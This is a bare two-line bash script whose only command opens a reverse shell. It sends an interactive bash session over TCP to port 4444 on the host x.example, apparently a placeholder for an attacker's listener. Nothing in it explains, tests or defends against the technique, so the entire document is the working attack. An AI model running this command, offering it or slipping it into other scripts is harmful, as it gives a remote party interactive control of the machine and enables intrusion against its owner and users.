#!/bin/bash
bash -i >& /dev/tcp/x.example/4444 0>&1
